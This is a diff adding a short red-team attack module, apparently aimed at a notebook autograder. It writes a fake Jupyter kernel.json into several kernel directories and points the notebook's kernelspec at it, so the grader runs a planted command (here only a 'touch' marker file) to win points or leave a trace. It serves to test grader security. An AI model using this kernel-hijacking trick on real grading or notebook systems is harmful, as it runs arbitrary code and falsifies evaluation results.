@@ -1,0 +1,14 @@
+"""A kernel of the student's own lies beside the notebook, and the notebook asks for it.
+
+Success: points, or a trace.
+"""
+
+import json
+
+KERNEL = {"argv": ["touch", "/tmp/red-team-was-here"], "display_name": "Mine", "language": "python"}
+
+
+def attack(submission):
+    for folder in ("kernels/mine", "share/jupyter/kernels/mine", ".ipython/kernels/mine"):
+        submission.file(f"{folder}/kernel.json", json.dumps(KERNEL))
+    submission.notebook.metadata["kernelspec"] = {"name": "mine", "display_name": "Mine"}
